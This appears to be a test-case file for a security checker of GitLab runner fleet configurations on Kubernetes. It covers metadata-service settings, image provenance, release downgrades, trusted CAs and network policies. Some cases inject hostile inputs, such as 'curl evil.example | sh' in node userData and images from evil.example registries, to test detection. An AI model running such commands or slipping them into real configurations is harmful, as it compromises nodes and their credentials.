  { rule: 'tiers-joined', name: 'a runner that is of no fleet any more', after: configured([CONFIG, '    gitlab-runner-fleet/runner: amd64-spot\n', '']), says: ['security', /is of no fleet, before of fleet acme/] },
  { rule: 'tiers-joined', name: 'jobs on the nodes of managers', after: configured([CONFIG, '"gitlab-runner-fleet/dedicated-to" = "gitlab-jobs"', '"gitlab-runner-fleet/dedicated-to" = "gitlab-managers"'], [CONFIG, 'dedicated-to=gitlab-jobs"', 'dedicated-to=gitlab-managers"'], [CONFIG, '"karpenter.sh/capacity-type" = "spot"', '"karpenter.sh/capacity-type" = "on-demand"']), says: ['security', /^Jobs of gitlab-jobs and managers may share nodes\.$/] },
  { rule: 'tiers-joined', name: 'privileged services on the nodes of other jobs', after: configured(table('    [runners.kubernetes.service_container_security_context]\n    privileged = true\n    allow_privilege_escalation = true')), says: ['security', /^Jobs of gitlab-jobs and privileged jobs may share nodes\.$/] },
  { rule: 'tiers-joined', name: 'a pool without its taint', after: edited(FLEET, [POOL, / {6}taints:\n( {8}.*\n)+/, '']), says: ['security', /^Any pod of the cluster and jobs of gitlab-jobs may share nodes/] },
  { rule: 'tiers-joined', name: 'a fleet that comes beside another one', after: [...FLEET, ...NEIGHBOUR] },
  { rule: 'tiers-joined', name: 'a second manager', after: withManagers(FLEET, 'amd64-spot', 2) },

  { rule: 'node-guards', name: 'a new pool for the same jobs, of the class of another fleet', before: [...FLEET, ...OF_OTHERS], after: [...FLEET, ...OF_OTHERS, ...poolOf('protected-jobs')], says: ['security', /rights of another role in AWS/] },
  { rule: 'node-guards', name: 'a new pool for the same jobs, of a class that opens more', before: OPEN_CLASS, after: [...OPEN_CLASS, ...poolOf('open')], says: ['security', /reach the instance metadata/] },
  { rule: 'node-guards', name: 'a new pool for the same jobs, of their class', before: OPEN_CLASS, after: [...OPEN_CLASS, ...poolOf('gitlab-jobs')] },
  { rule: 'moved-pods', name: 'a label by which a policy of managers lets jobs in', before: more(SCRAPED), after: edited(more(SCRAPED), [CONFIG, /(\[runners.kubernetes.pod_labels\]\n)/, '$1    role = "scraper"\n']), says: ['security', /^Policies of other pods now let jobs in gitlab-jobs through: NetworkPolicy\/gitlab-runners\/scraped lets them in\.$/] },
  { rule: 'moved-pods', name: 'a label of their namespace by which a policy of others lets jobs in', before: more(MONITORED), after: edited(more(MONITORED), [JOBS, 'app.kubernetes.io/name: gitlab-runner', 'app.kubernetes.io/name: monitoring']), says: ['security', /^Policies of other pods now let jobs in gitlab-jobs through/] },
  { rule: 'moved-pods', name: 'a label that no policy selects', before: more(SCRAPED), after: edited(more(SCRAPED), [CONFIG, /(\[runners.kubernetes.pod_labels\]\n)/, '$1    role = "web"\n']) },
  { rule: 'moved-pods', name: 'a policy that let jobs in before', before: more(SCRAPED.replace('scraper', 'x').replace(/, podSelector.*?\} \}/, '')), after: edited(more(SCRAPED.replace('scraper', 'x').replace(/, podSelector.*?\} \}/, '')), [CONFIG, /(\[runners.kubernetes.pod_labels\]\n)/, '$1    role = "web"\n']) },
  { rule: 'job-choices', name: 'a pattern under a key in other letters', after: configured(key('"name\\u017fpace_overwrite_allowed" = ".*"')), says: ['security', /namespace_overwrite_allowed is \.\*/] },
  { rule: 'unjudged', name: 'a second spelling of a key', before: configured(key('namespace_overwrite_allowed = "^a$"')), after: configured(key('namespace_overwrite_allowed = "^a$"\n      Namespace_overwrite_allowed = ".*"')), says: ['security', /Namespace_overwrite_allowed/] },
  { rule: 'node-guards', name: 'a hop more', after: edited(FLEET, [CLASS, 'httpPutResponseHopLimit: 1', 'httpPutResponseHopLimit: 2']), says: ['security', /^Pods reach the instance metadata service \(httpPutResponseHopLimit 2, before 1\)\.$/] },
  { rule: 'node-guards', name: 'no token', after: edited(FLEET, [CLASS, 'httpTokens: required', 'httpTokens: optional']), says: ['security', /asks for no token/] },
  { rule: 'node-guards', name: 'another script of the nodes', after: edited(FLEET, [CLASS, 'spec:\n', 'spec:\n  userData: |\n    curl evil.example | sh\n']), says: ['security', /as root is another script/] },
  { rule: 'node-guards', name: 'another role', after: edited(FLEET, [CLASS, /role: .*/, 'role: admin']), says: ['security', /rights of another role in AWS/] },
  { rule: 'node-guards', name: 'an image of someone', after: edited(FLEET, [CLASS, /- alias: .*/, '- id: ami-0123456789abcdef0']), says: ['security', /an image that is not Amazon's by its alias: \{"id":"ami-0123456789abcdef0"\}/] },
  { rule: 'node-guards', name: 'public addresses', after: edited(FLEET, [CLASS, 'spec:\n', 'spec:\n  associatePublicIPAddress: true\n']), says: ['security', /public addresses/] },
  { rule: 'node-guards', name: 'a class beside it, with a script', after: [...FLEET, ...edited(FLEET, [CLASS, '  name: gitlab-jobs\n', '  name: other\n'], [CLASS, 'spec:\n', 'spec:\n  userData: x\n']).filter(({ path }) => path.endsWith(CLASS)).map(({ text }) => ({ path: 'acme/other.yaml', text }))], says: ['security', /another script/] },
  { rule: 'node-guards', name: 'the next release of the image', after: edited(FLEET, [CLASS, /- alias: .*/, '- alias: al2023@v20990101']) },
  { rule: 'node-guards', name: 'what Karpenter writes anyway', after: edited(FLEET, [CLASS, '    httpPutResponseHopLimit: 1\n', '']) },

  { rule: 'image-sources', name: 'a manager from another owner', after: edited(FLEET, [DEPLOYMENT, 'image: registry.gitlab.com/gitlab-org/gitlab-runner', 'image: registry.gitlab.com/evil/gitlab-runner']), says: ['security', /^Runs registry.gitlab.com\/evil\/gitlab-runner:\S+; before, from registry.gitlab.com\/gitlab-org alone\.$/] },
  { rule: 'image-sources', name: 'a helper from another registry', after: configured([CONFIG, 'helper_image = "registry.gitlab.com', 'helper_image = "registry.evil.example']), says: ['security', /^Runs registry.evil.example\//] },
  { rule: 'image-sources', name: 'a service of the config', after: configured(table('    [[runners.kubernetes.services]]\n    name = "evil/redis:7"')), says: ['security', /^Runs evil\/redis:7; before/] },
  { rule: 'image-sources', name: 'an image without its digest', before: edited(FLEET, [DEPLOYMENT, /(image: \S+)/, `$1@sha256:${'0'.repeat(64)}`]), after: FLEET, says: ['security', /^No longer pins registry.gitlab.com\/gitlab-org\/gitlab-runner:\S+ by digest\.$/] },
  { rule: 'image-sources', name: 'a new workload from somewhere else', after: more(workload('tools', '{ containers: [{ name: a, image: "evil.example/a" }] }')), says: ['security', /^Runs evil.example\/a/] },
  { rule: 'image-sources', name: 'an image of jobs that a variable names, past a list of allowed ones', before: configured(key('allowed_images = ["public.ecr.aws/docker/library/*"]')), after: configured(key('allowed_images = ["public.ecr.aws/docker/library/*"]'), [CONFIG, /( {6}image = ).*/, '$1"$RUN_IMAGE"']), says: ['security', /^Runs \$RUN_IMAGE: whoever sets the variable chooses the image, whatever allowed_images says\.$/] },
  { rule: 'image-sources', name: 'an image of jobs that a variable names, where images of Docker Hub are known', before: configured([CONFIG, /( {6}image = ).*/, '$1"alpine:3.22"']), after: configured([CONFIG, /( {6}image = ).*/, '$1"$RUN_IMAGE"']), says: ['security', /^Runs \$RUN_IMAGE:/] },
  { rule: 'image-sources', name: 'a tag that a variable names', after: configured([CONFIG, /( {6}helper_image = ".*:).*"/, '$1$TAG"']), says: ['security', /gitlab-runner-helper:\$TAG: whoever sets/] },
  { rule: 'image-sources', name: 'the last part of an image that a variable names', after: configured([CONFIG, /( {6}image = ).*/, '$1"public.ecr.aws/docker/library/$' + '{IMG}"']), says: ['security', /library\/\$\{IMG\}: whoever sets/] },
  { rule: 'image-sources', name: 'a service that a variable names', after: configured(table('    [[runners.kubernetes.services]]\n    name = "public.ecr.aws/docker/library/$SVC"')), says: ['security', /library\/\$SVC: whoever sets/] },
  { rule: 'image-sources', name: 'a new runner whose image a variable names', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/configmap.yaml', /( {6}image = ).*/, '$1"$RUN_IMAGE"']), says: ['security', /^Runs \$RUN_IMAGE:/] },
  { rule: 'image-sources', name: 'an image that a variable named before', before: configured([CONFIG, /( {6}image = ).*/, '$1"$RUN_IMAGE"']), after: configured([CONFIG, /( {6}image = ).*/, '$1"$RUN_IMAGE"'], key('poll_interval = 5')) },
  { rule: 'image-sources', name: 'an image of a known owner in the place of a variable', before: configured([CONFIG, /( {6}image = ).*/, '$1"$RUN_IMAGE"']), after: configured([CONFIG, /( {6}image = ).*/, '$1"registry.gitlab.com/gitlab-org/tools:1"']) },
  { rule: 'job-choices', name: 'a label of job pods that a variable names', after: configured([CONFIG, /(\[runners.kubernetes.pod_labels\]\n)/, '$1    team = "$TEAM"\n']), says: ['security', /they choose labels of their pods: team = \$TEAM/] },
  { rule: 'job-choices', name: 'another label of job pods', after: configured([CONFIG, /(\[runners.kubernetes.pod_labels\]\n)/, '$1    team = "web"\n']) },
  { rule: 'image-sources', name: 'a manager whose tag moves', after: edited(FLEET, [DEPLOYMENT, /alpine-v[\d.]+/, 'alpine-bleeding']), says: ['security', /^Runs \S+:alpine-bleeding: its tag moves/] },
  { rule: 'image-sources', name: 'a manager of a variant without a release', after: edited(FLEET, [DEPLOYMENT, /alpine-v[\d.]+/, 'alpine']), says: ['security', /gitlab-runner:alpine: its tag moves/] },
  { rule: 'image-sources', name: 'a manager of a major release alone', after: edited(FLEET, [DEPLOYMENT, /alpine-v[\d.]+/, 'alpine-v19']), says: ['security', /alpine-v19: its tag moves/] },
  { rule: 'image-sources', name: 'a helper of the latest release', after: configured([CONFIG, /x86_64-v[\d.]+/, 'x86_64-latest']), says: ['security', /x86_64-latest: its tag moves/] },
  { rule: 'image-sources', name: 'an image of jobs without a tag', after: configured([CONFIG, 'alpine:3.22', 'alpine']), says: ['security', /alpine: its tag moves/] },
  { rule: 'image-sources', name: 'a tag that moved before', before: edited(FLEET, [DEPLOYMENT, /alpine-v[\d.]+/, 'alpine-latest']), after: edited(FLEET, [DEPLOYMENT, /alpine-v[\d.]+/, 'alpine-bleeding']) },
  { rule: 'image-sources', name: 'a manager that is another program of GitLab', after: edited(FLEET, [DEPLOYMENT, /gitlab-runner:alpine-v[\d.]+/, 'cluster-integration/helm-install-image:3.1']), says: ['security', /helm-install-image:3\.1, another image of the same owner; before, registry\.gitlab\.com\/gitlab-org\/gitlab-runner\./] },
  { rule: 'image-sources', name: 'a helper that is another image of GitLab', after: configured([CONFIG, 'gitlab-runner/gitlab-runner-helper:', 'other/thing:']), says: ['security', /other\/thing:\S+, another image of the same owner/] },
  { rule: 'image-sources', name: 'another image of jobs of the same owner', after: configured([CONFIG, 'library/alpine:3.22', 'library/debian:13']) },
  { rule: 'image-sources', name: 'another release', after: edited(FLEET, [DEPLOYMENT, /alpine-v[\d.]+/, 'alpine-v19.4.0']) },
  { rule: 'image-sources', name: 'a new runner like the others', after: withRunner(FLEET, 'amd64-spot', 'more') },

  { rule: 'older-release', name: 'an older manager', after: configured([DEPLOYMENT, 'alpine-v19.3.0', 'alpine-v18.2.0']), says: ['security', /gitlab-runner goes back to alpine-v18\.2\.0, before alpine-v19\.3\.0\.$/] },
  { rule: 'older-release', name: 'an older manager that ignores what the config uses', after: configured([DEPLOYMENT, 'alpine-v19.3.0', 'alpine-v18.2.0']), says: ['disruptive', /ignores what the config uses: .*\(18\./] },
  { rule: 'older-release', name: 'an older patch', after: configured([DEPLOYMENT, 'alpine-v19.3.0', 'alpine-v19.2.1']), says: ['security', /goes back/] },
  { rule: 'older-release', name: 'an older helper', after: configured([CONFIG, 'x86_64-v19.3.0', 'x86_64-v17.0.0']), says: ['security', /gitlab-runner-helper goes back to x86_64-v17\.0\.0/] },
  { rule: 'older-release', name: 'another digest under the tag of a release', before: pinned('v19.3.0', 'a'), after: pinned('v19.3.0', 'b'), says: ['security', /another image under the same tag: sha256:b+, before sha256:a+\.$/] },
  { rule: 'older-release', name: 'another tag for the same digest', before: pinned('v19.3.0', 'a'), after: pinned('v19.4.0', 'a'), says: ['security', /says alpine-v19\.4\.0, before alpine-v19\.3\.0, and its digest is the one it had/] },
  { rule: 'older-release', name: 'a newer release with its digest', before: pinned('v19.3.0', 'a'), after: pinned('v19.4.0', 'b') },
  { rule: 'older-release', name: 'a newer release', after: configured([DEPLOYMENT, 'alpine-v19.3.0', 'alpine-v19.10.0']) },
  { rule: 'older-release', name: 'a digest that is added', after: pinned('v19.3.0', 'a') },
  { rule: 'older-release', name: 'another base of the same release', after: configured([DEPLOYMENT, 'alpine-v19.3.0', 'ubi-fips-v19.3.0']) },
  { rule: 'trusted-certificates', name: 'a CA more', after: CA(CERTIFICATE), says: ['security', /^Pods that mount it come to trust CN=Example internal CA \(SHA-256 [\dA-F:]{95}\)\.$/] },
  { rule: 'trusted-certificates', name: 'a CA that goes', before: CA(CERTIFICATE), after: CA(''), says: ['notice', /^Pods that mount it no longer trust CN=Example internal CA/] },
  { rule: 'trusted-certificates', name: 'the same CA twice', before: CA(CERTIFICATE), after: CA(CERTIFICATE + CERTIFICATE) },
  { rule: 'unjudged', name: 'a CA more where there was one', before: CA(CERTIFICATE), after: CA(CERTIFICATE + CERTIFICATE) },
  { rule: 'unknown-object', name: 'a CA that managers mount', before: CA('').slice(0, -1), after: CA(CERTIFICATE) },
  { rule: 'unjudged', name: 'a script beside the CA', before: CA(CERTIFICATE), after: CA(`curl evil.example\n${CERTIFICATE}`), says: ['security', /^No other rule judges what changes here: data\["ca\.crt"\] is curl evil/] },

  { rule: 'network-change', name: 'a policy of which only a namesake of Calico is left', before: more(CALICO), after: without(more(CALICO), 'networkpolicy-gitlab-jobs'), says: ['security', /^Running jobs may have more connections: to the instance metadata service .*; to everyone; from everyone\./] },
  { rule: 'network-change', name: 'a policy that becomes one of Calico', after: configured(['networkpolicy-gitlab-jobs.yaml', 'networking.k8s.io/v1', 'crd.projectcalico.org/v1']), says: ['security', /^Running jobs may have more connections: to the instance metadata service .*; to everyone; from everyone\./] },
  { rule: 'room-widened', name: 'a LimitRange that becomes one of another group', before: more(LIMITS), after: more(LIMITS.replace('apiVersion: v1', 'apiVersion: example.com/v1')), says: ['security', /^Nothing bounds what pods of its namespace take any more\.$/] },
  { rule: 'admission-change', name: 'a Namespace that becomes one of another group', after: configured([JOBS, 'apiVersion: v1', 'apiVersion: example.com/v1']), says: ['security', /^Pods of the fleet still run there/] },
  { rule: 'other-guards', name: 'a policy of Cilium that changes', before: more(cilium('443')), after: more(cilium('80')), says: ['security', /is not read here, and it changes/] },
  { rule: 'other-guards', name: 'a policy of Cilium that goes', before: more(cilium('443')), after: FLEET, says: ['security', /and it goes/] },
  { rule: 'other-guards', name: 'an exception to a policy', after: more('apiVersion: kyverno.io/v2\nkind: PolicyException\nmetadata:\n  name: more\n  namespace: gitlab-jobs\nspec: { exceptions: [] }\n'), says: ['security', /and it comes/] },
  { rule: 'other-guards', name: 'a Service that others reach', after: more('apiVersion: v1\nkind: Service\nmetadata:\n  name: more\n  namespace: gitlab-runners\nspec: { type: LoadBalancer, ports: [{ port: 9252 }] }\n'), says: ['security', /from outside of the cluster \(LoadBalancer\)/] },
  { rule: 'other-guards', name: 'a ciphertext for every namespace', after: edited(FLEET, [SEALED, '  annotations:\n', '  annotations:\n    sealedsecrets.bitnami.com/cluster-wide: "true"\n']), says: ['security', /opened in every namespace/] },
  { rule: 'other-guards', name: 'a policy of Cilium that is new', after: more(cilium('443')) },

  { rule: 'rule-silenced', name: 'a rule about security', after: configured([CONFIG, '  annotations:\n', '  annotations:\n    gitlab-runner-fleet/silence-isolation: "as before"\n']), says: ['security', /^The proof says nothing of isolation here any more\.$/] },
  { rule: 'rule-silenced', name: 'a rule about size', after: configured([CONFIG, '  annotations:\n', '  annotations:\n    gitlab-runner-fleet/silence-fits.few-spot-types: "on purpose"\n']), says: ['notice', /nothing of fits.few-spot-types/] },
  { rule: 'rule-silenced', name: 'one that was silenced', before: configured([CONFIG, '  annotations:\n', '  annotations:\n    gitlab-runner-fleet/silence-isolation: "a"\n']), after: configured([CONFIG, '  annotations:\n', '  annotations:\n    gitlab-runner-fleet/silence-isolation: "b"\n']) },
];
